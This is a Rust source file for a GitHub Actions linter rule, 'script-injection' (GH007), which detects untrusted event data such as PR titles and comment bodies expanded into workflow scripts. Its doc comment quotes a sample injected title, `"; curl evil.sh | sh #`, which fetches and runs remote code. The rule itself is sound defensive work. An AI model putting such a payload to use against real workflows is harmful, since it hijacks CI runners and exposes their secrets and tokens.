use super::*;
use crate::parse::expr;

declare_rule! {
    /// ## What it checks
    /// An expression that reads attacker-controlled data —
    /// `github.event.issue.title`, `pull_request.title/body/head.ref`,
    /// comment and review bodies, commit messages and authors,
    /// `github.head_ref`, `workflow_run.head_branch`, … — expanded inside a
    /// `run:` script or the `script:` of `actions/github-script`. Inside a
    /// composite action, `inputs.*` expanded in `run:` is a warning: the
    /// caller may pass such data.
    ///
    /// ## Why it matters in production
    /// `${{ }}` is substituted into the script text before the shell runs
    /// it. A pull request titled `"; curl evil.sh | sh #` then runs code in
    /// your runner, with your secrets and token.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## Fix
    /// None yet: move the expression into the step's `env:` by hand.
    ///
    /// ## References
    /// - [GitHub: understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
    pub struct ScriptInjection {
        code: "GH007",
        name: "script-injection",
        severity: Error,
        tags: ["security"],
        security_severity: "9.0",
        fix: None,
        summary: "attacker-controlled data is expanded into a script",
    }
}

impl WorkflowRule for ScriptInjection {
    impl_meta!();

    fn check(&self, cx: &WorkflowContext<'_>, out: &mut Findings) {
        let composite = cx
            .action
            .is_some_and(|a| a.using.as_ref().is_some_and(|u| u.text == "composite"));
        for step in cx.steps() {
            let Some(script) = script_node(step) else {
                continue;
            };
            for e in expr::find(&cx.file.text, script.span) {
                if let Some(c) = e.contexts.iter().find(|c| is_untrusted(c)) {
                    out.report(&Self::META, e.span, format!("`{c}` is chosen by whoever opens the issue or pull request, and is pasted into the script"))
                        .help("pass it through `env:` and use the variable, quoted, in the script");
                } else if composite
                    && let Some(c) = e.contexts.iter().find(|c| c.starts_with("inputs."))
                {
                    out.report(
                        &Self::META,
                        e.span,
                        format!(
                            "`{c}` is pasted into the script; a caller may pass untrusted data"
                        ),
                    )
                    .severity(Severity::Warning)
                    .help("pass it through `env:` and use the variable, quoted, in the script");
                }
            }
        }
    }
}
